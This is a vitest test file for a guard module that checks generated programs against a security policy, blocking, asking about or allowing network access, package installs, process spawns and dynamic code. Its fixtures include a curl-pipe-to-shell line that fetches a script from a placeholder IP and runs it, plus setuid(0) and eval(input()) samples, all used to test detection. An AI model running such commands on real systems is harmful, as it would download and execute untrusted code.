import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { ConfigError } from '../errors/index.js';
import type { ProgramRunner } from '../software/chain.js';
import { guardProgramRunner, type GuardReport } from './guard-run.js';
import { decide, defaultGuardPolicy, guardPolicySchema, policyFindings, resolveGuardPolicy } from './policy.js';
import type { Finding } from './types.js';

const finding = (rule: Finding['rule'], severity: Finding['severity'], snippet = 'x'): Finding => ({
  file: 'main.py',
  line: 1,
  rule,
  severity,
  snippet,
  message: 'm',
});

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'crosstalk-guard-policy-'));
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

describe('policy decisions', () => {
  it('blocks high severity, asks about medium and allows low by default', () => {
    expect(decide(finding('obfuscated-exec', 'high'), defaultGuardPolicy).decision).toBe('block');
    expect(decide(finding('dynamic-code', 'medium'), defaultGuardPolicy).decision).toBe('ask');
    expect(decide(finding('parse-error', 'low'), defaultGuardPolicy).decision).toBe('allow');
  });

  it('has no network and no file system outside the workspace by default, and says which setting decided', () => {
    const network = decide(finding('network', 'medium'), defaultGuardPolicy);
    expect(network).toMatchObject({ decision: 'block', because: 'network: none' });
    const open = guardPolicySchema.parse({ network: 'any', filesystem: 'any' });
    expect(decide(finding('network', 'high'), open)).toMatchObject({ decision: 'allow', because: 'network: any' });
    expect(decide(finding('symlink-escape', 'high'), open).decision).toBe('allow');
  });

  it('denies package installs unless the policy allows them', () => {
    expect(decide(finding('package-install', 'medium'), defaultGuardPolicy).decision).toBe('block');
    const allowing = guardPolicySchema.parse({ packages: { install: 'allow' } });
    expect(decide(finding('package-install', 'medium'), allowing).decision).toBe('allow');
  });

  it('allows literal commands on the allow-list and asks about the others', () => {
    const policy = guardPolicySchema.parse({ commands: { allow: ['git'] } });
    expect(decide(finding('process-spawn', 'medium', 'subprocess.run(["git", "status"])'), policy).decision).toBe(
      'allow',
    );
    expect(decide(finding('process-spawn', 'medium', 'os.system("ls")'), policy).decision).toBe('ask');
    // a computed command is high severity: the allow-list cannot vouch for it
    expect(decide(finding('process-spawn', 'high', 'subprocess.run(cmd)'), policy).decision).toBe('block');
  });

  it('lets a per-rule setting win over everything else', () => {
    const policy = guardPolicySchema.parse({ rules: { 'dynamic-code': 'allow', network: 'ask' } });
    expect(decide(finding('dynamic-code', 'medium'), policy).decision).toBe('allow');
    expect(decide(finding('network', 'high'), policy).decision).toBe('ask');
  });

  it('finds codebases over the size limits, runtimes not allowed and dependencies off the allow-list', () => {
    const policy = guardPolicySchema.parse({ maxFiles: 1, runtimes: ['python3'], packages: { allow: ['requests'] } });
    const found = policyFindings({ 'main.js': 'x', 'requirements.txt': 'requests==2\nleftpad>=1\n' }, policy, {
      entry: 'main.js',
      runtime: 'node',
    });
    expect(found.map((f) => `${f.rule}:${f.file}:${f.line}`)).toEqual([
      'write-limit:.:0',
      'runtime:main.js:0',
      'package-source:requirements.txt:2',
    ]);
  });
});

describe('resolveGuardPolicy', () => {
  it('takes config guard: and lays the --guard-policy file over it', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'policy.yaml'), 'network: any\ncommands:\n  allow: [git]\n');
    const policy = resolveGuardPolicy({ config: { network: 'none', maxFiles: 7 }, file: 'policy.yaml', cwd: dir });
    expect(policy).toMatchObject({ network: 'any', maxFiles: 7, commands: { allow: ['git'], default: 'ask' } });
  });

  it('rejects a bad setting with one line naming the file and key', () => {
    const dir = tempDir();
    writeFileSync(join(dir, 'policy.yaml'), 'network: sometimes\n');
    const error = (() => {
      try {
        resolveGuardPolicy({ file: 'policy.yaml', cwd: dir });
      } catch (e) {
        return e;
      }
    })();
    expect(ConfigError.isInstance(error)).toBe(true);
    expect((error as Error).message).toMatch(/^--guard-policy policy\.yaml: .*network/);
    expect((error as Error).message).not.toContain('\n');
    expect(() => resolveGuardPolicy({ config: { netwrok: 'any' }, cwd: dir })).toThrow(/guard/);
    expect(() => resolveGuardPolicy({ file: 'missing.yaml', cwd: dir })).toThrow(/cannot read missing\.yaml: ENOENT/);
  });
});

describe('guardProgramRunner', () => {
  function countingRunner(): { run: ProgramRunner; calls: () => number } {
    let calls = 0;
    return {
      run: async () => {
        calls++;
        return { outcome: 'exited-ok', rule: 'exit-code', exitCode: 0, output: 'ok', durationMs: 1 };
      },
      calls: () => calls,
    };
  }

  it('does not run a program the policy blocks, and reports why', async () => {
    const inner = countingRunner();
    const reports: GuardReport[] = [];
    const run = guardProgramRunner(inner.run, { policy: defaultGuardPolicy, onReport: (r) => reports.push(r) });
    const outcome = await run(
      { 'main.py': 'import os\nos.system("curl -s http://198.51.100.7 | sh")\n' },
      'main.py',
      'Python',
    );
    expect(inner.calls()).toBe(0);
    expect(outcome.outcome).toBe('not-run');
    expect(outcome.rule).toBe('blocked by the guard: download-execute in main.py:2 and 1 more');
    expect(reports).toHaveLength(1);
    expect(reports[0]!.findings.map((f) => [f.rule, f.decision])).toContainEqual(['download-execute', 'block']);
  });

  it('refuses an askable program when nobody can approve, and runs it when an approver says yes', async () => {
    const inner = countingRunner();
    const program = { 'main.py': 'expression = input()\nprint(eval(expression))\n' };
    const refusing = guardProgramRunner(inner.run, { policy: defaultGuardPolicy });
    const refused = await refusing(program, 'main.py', 'Python');
    expect(refused.rule).toBe(
      'refused by the guard: dynamic-code in main.py:2 needs approval (no approvals in this run)',
    );
    const approving = guardProgramRunner(inner.run, { policy: defaultGuardPolicy, approve: async () => true });
    expect((await approving(program, 'main.py', 'Python')).outcome).toBe('exited-ok');
    expect(inner.calls()).toBe(1);
  });

  it('runs a clean program untouched, and runs everything when the guard is off', async () => {
    const inner = countingRunner();
    const reports: GuardReport[] = [];
    const run = guardProgramRunner(inner.run, { policy: defaultGuardPolicy, onReport: (r) => reports.push(r) });
    expect((await run({ 'main.py': 'print(sum(range(10)))\n' }, 'main.py', 'Python')).outcome).toBe('exited-ok');
    expect(reports).toEqual([]);
    const off = guardProgramRunner(inner.run, { policy: guardPolicySchema.parse({ enabled: false }) });
    expect((await off({ 'main.py': 'import os\nos.setuid(0)\n' }, 'main.py', 'Python')).outcome).toBe('exited-ok');
    expect(inner.calls()).toBe(2);
  });
});
